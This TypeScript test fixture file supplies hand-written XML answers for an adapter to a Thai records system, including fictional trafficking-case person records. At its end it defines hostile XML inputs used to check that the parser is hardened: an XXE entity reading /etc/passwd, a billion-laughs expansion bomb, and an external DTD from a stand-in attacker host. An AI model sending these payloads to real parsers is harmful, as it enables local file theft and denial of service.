// Every native answer the THA tests feed the adapter, in one place. Written by hand in the Thai
// system's shape (not produced by the simulator's renderer), so the tests pin the native format.
import { loadRegistry } from '../../../schema/registry/registry';
import type { AdapterSettings } from '../../kit/subgraph/run-country';

export const THA = loadRegistry().byCode('THA')!;
export const NATIVE_BASE = 'http://rtp-records.test';
export const settings: AdapterSettings = { jurisdiction: THA, baseUrl: NATIVE_BASE, timeoutMs: 2000 };

export const VICTIM_ID = 'THA:TIB:2567-TIB-004512';
export const SUSPECT_ID = 'THA:RTP:2567-ATPD-000871';

/** The two TD3 lines of the story victim's passport, as the Immigration Bureau's reader saw them. */
export const VICTIM_MRZ = ['P<PHLVILLANUEVA<<MARICEL<DIZON<<<<<<<<<<<<<<', 'P4821937B4PHL9803145F3106305<<<<<<<<<<<<<<02'] as const;

/** `<Mrz>` around MRZ lines, escaped as the system writes them (`<` is markup in XML). */
export function mrz(lines: readonly string[]): string {
  return `<Mrz>${lines.map((line) => `<Line>${line.replace(/</g, '&lt;')}</Line>`).join('')}</Mrz>`;
}

/** The story victim as the Immigration Bureau recorded her: the passport scanned at the counter. */
export const VICTIM = `
  <Person refNo="2567-TIB-004512" agency="TIB">
    <Name lang="th">มาริเซล ดิซอน วิลลานูเอวา</Name>
    <NameEn><Surname>VILLANUEVA</Surname><GivenNames>MARICEL DIZON</GivenNames></NameEn>
    <Gender>F</Gender>
    <BirthDate>14/03/2541</BirthDate>
    <Nationality>PH</Nationality>
    <Passport no="P 4821937 B" country="PH" expiry="30/06/2574" status="ACTIVE">${mrz(VICTIM_MRZ)}</Passport>
    <Phone>+63 917 482 1937</Phone>
    <Role>ผู้เข้าเมืองโดยผิดกฎหมาย</Role>
    <Role>ผู้ที่อาจเป็นผู้เสียหาย</Role>
    <Event type="ENT" date="09/03/2567 23:40" province="Samut Prakan" country="THA" facility="Suvarnabhumi Airport">Entered on a tourist visa exemption.</Event>
    <Case ref="THA-2024-0415" status="OPEN" role="ผู้ที่อาจเป็นผู้เสียหาย">
      <Exploitation>FORCED_CRIMINALITY</Exploitation>
      <Offence code="TIP2551-6">ค้ามนุษย์</Offence>
    </Case>
    <Handling code="H1"><ReleasableTo>PHL</ReleasableTo></Handling>
    <LastModified>2024-03-15T11:00:00+07:00</LastModified>
  </Person>`;

/** The story suspect as the police recorded him: birth year only, a Thai national number. */
export const SUSPECT = `
  <Person refNo="2567-ATPD-000871" agency="RTP">
    <Name lang="th">วีระ แก้วมณี</Name>
    <NameEn><Surname>KAEWMANEE</Surname><GivenNames>WIRA</GivenNames></NameEn>
    <Gender>ชาย</Gender>
    <BirthDate>2529</BirthDate>
    <Nationality>THA</Nationality>
    <Passport no="AA3318842" country="TH"/>
    <Phone>0812345678</Phone>
    <Role>ผู้ต้องหา</Role>
    <Handling code="H0"/>
  </Person>`;

/** A minimal valid person (passport name only) with `extra` elements appended. */
export function person(refNo: string, extra = '', agency = 'RTP'): string {
  return `<Person refNo="${refNo}" agency="${agency}"><NameEn><Surname>THONGDEE</Surname><GivenNames>ARUNI</GivenNames></NameEn>${extra}</Person>`;
}

/** A `<Case>` citing the given `<Offence>` codes (each with a Thai title, as the system writes it). */
export function caseWith(codes: readonly string[], ref = 'THA-2024-0500'): string {
  return `<Case ref="${ref}" status="CHARGED" role="ผู้ต้องหา">${codes.map((c) => `<Offence code="${c}">ข้อหา</Offence>`).join('')}</Case>`;
}

/** A `<PersonRecords>` answer around persons; `attrs` for paging, e.g. `page="1" pages="2" total="30"`. */
export function personRecords(persons: readonly string[], attrs = `total="${persons.length}"`): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n<PersonRecords ${attrs}>${persons.join('')}</PersonRecords>`;
}

/** Classic XXE: an external entity that would read a local file into the answer. */
export const XXE = `<?xml version="1.0"?>
<!DOCTYPE PersonRecords [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<PersonRecords total="1"><Person refNo="2567-TIB-004512" agency="TIB"><NameEn><Surname>&e;</Surname></NameEn></Person></PersonRecords>`;

/** Billion laughs: ten levels of ten-fold expansion, a few GB from a few hundred bytes. */
export const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
${Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n')}
]>
<PersonRecords total="1"><Person refNo="X-1" agency="RTP"><NameEn><Surname>&lol9;</Surname></NameEn></Person></PersonRecords>`;

/** A parameter entity pulling an external DTD, in lower case, with no internal subset. */
export const EXTERNAL_DTD = `<?xml version="1.0"?><!doctype PersonRecords SYSTEM "http://attacker.test/x.dtd"><PersonRecords total="0"/>`;

/** What a broken gateway in front of the system might send instead of XML. */
export const GARBAGE = '\u0000\u0001<<not what you asked for';
